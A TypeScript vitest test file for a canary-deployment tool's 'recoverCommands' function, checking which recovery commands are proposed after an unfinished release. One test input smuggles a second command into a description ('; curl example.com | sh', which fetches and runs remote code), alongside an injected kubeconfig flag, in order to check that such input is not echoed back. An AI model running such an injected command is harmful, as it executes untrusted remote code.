import { expect, test } from 'vitest'
import type { Revision } from '../../../../src/model/release.js'
import { recoverCommands } from '../../../../src/operations/observe/recover-commands.js'

const deployed = { revision: 3 } as Revision
const commandsFor = (description: string) =>
  recoverCommands({ app: 'echo', namespace: 'echo', deployed, unfinished: { description } })

test('the command of the revision is repeated with --recover', () => {
  expect(commandsFor('canary shift echo 25: send 25 % of the regular requests to v2 (by ann@host)')).toEqual([
    'canary abort echo    (recovers, then returns to the stable version)',
    'canary shift echo 25 --recover    (back to revision 3, then on from there)',
  ])
})

test.each([
  'canary shift echo 25; curl example.com | sh: send 25 %',
  'canary shift echo 25 --kubeconfig=/tmp/x: send 25 %',
  'canary shift foxtrot 25: send 25 %',
  'canary upgrade echo --set password=…: change password',
  'Upgrade complete',
])('a description that proposes more is not repeated: %s', (description) => {
  expect(commandsFor(description)[1]).toBe(
    'the command that failed, with --recover    (back to revision 3, then on from there)',
  )
})

test('what has no revision to go back to is removed', () => {
  const unfinished = { description: 'canary install echo v1: install v1' }
  expect(recoverCommands({ app: 'echo', namespace: 'shop', unfinished })).toEqual([
    'canary abort echo -n shop    (removes the remains)',
  ])
})
